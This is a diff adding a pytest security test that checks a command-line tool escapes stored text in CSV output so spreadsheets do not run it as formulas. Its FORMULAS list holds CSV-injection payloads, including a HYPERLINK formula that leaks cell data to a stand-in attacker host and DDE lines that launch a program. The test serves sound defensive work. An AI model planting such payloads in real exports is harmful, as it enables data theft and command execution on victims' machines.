@@ -7,8 +7,13 @@ text and read back with ``autotts sql``. Printed raw, their control characters a
 
 from __future__ import annotations
 
+import csv
+import io
 from pathlib import Path
 
+import pytest
+
+from autotts.cli import main
 from tests.builders import branch, question, write_release
 from tests.security import harness as h
 
@@ -28,3 +33,44 @@ def test_an_ingested_answer_reaches_the_terminal_as_text_not_escapes(tmp_path: P
     assert failed.returncode == 1 and "Could not convert" in failed.stderr, failed.stderr[-2000:]
     obeyed = sorted({repr(c) for c in failed.stderr if not c.isprintable() and c != "\n"})
     assert not obeyed, f"control characters quoted by an error reached the terminal: {obeyed}"
+
+
+# Text in a trace file that a spreadsheet opening `autotts sql --format csv` output would run as a formula.
+FORMULAS = [
+    '=HYPERLINK("http://attacker.example/?leak="&A1,"click")',
+    "=cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def test_stored_text_reaches_a_spreadsheet_as_text_not_formulas(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    release = write_release(tmp_path / "M" / "bench.json", [
+        question([branch(FORMULAS, 10, f), branch([], 20, "-3")], gold=FORMULAS[0], text=FORMULAS[1])
+        for f in FORMULAS
+    ])
+    store = tmp_path / "s.duckdb"
+    assert main(["ingest", "autotts-json", str(release), "--store", str(store)]) == 0
+    assert main(["ingest", "autotts-json", str(release), "--model=" + FORMULAS[0], "--store", str(store)]) == 1
+    capsys.readouterr()
+    query = ("SELECT q.question, q.gold_answer, b.final_answer, p.answer, -b.branch_tokens AS minus FROM branches b "
+             "JOIN questions q USING (question_idx) LEFT JOIN probes p USING (question_idx, branch_idx)")
+    assert main(["sql", "--store", str(store), "--format", "csv", query]) == 0
+    header, *rows = list(csv.reader(io.StringIO(capsys.readouterr().out, newline="")))
+    assert len(rows) == len(FORMULAS) * (len(FORMULAS) + 1), "a stored \\r broke a row in two"
+    assert {len(r) for r in rows} == {5}
+    cells = [cell for row in rows for cell in row]
+    run = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") and c not in ("-3", "-10", "-20")]
+    assert not run, f"stored text would run as a spreadsheet formula: {run}"
+    assert {f"'{f}" for f in FORMULAS} <= set(cells), "the escaped text must keep every character of the original"
+    assert {"-3", "-10", "-20"} <= set(cells), "a negative number, stored or computed, must stay a number"
+
+    pivot = "PIVOT (SELECT final_answer FROM branches) ON final_answer USING count(*)"  # stored text as headers
+    assert main(["sql", "--store", str(store), "--format", "csv", pivot]) == 0
+    header = next(csv.reader(io.StringIO(capsys.readouterr().out, newline="")))
+    assert set(header) == {"-3", *(f"'{f}" for f in FORMULAS)}
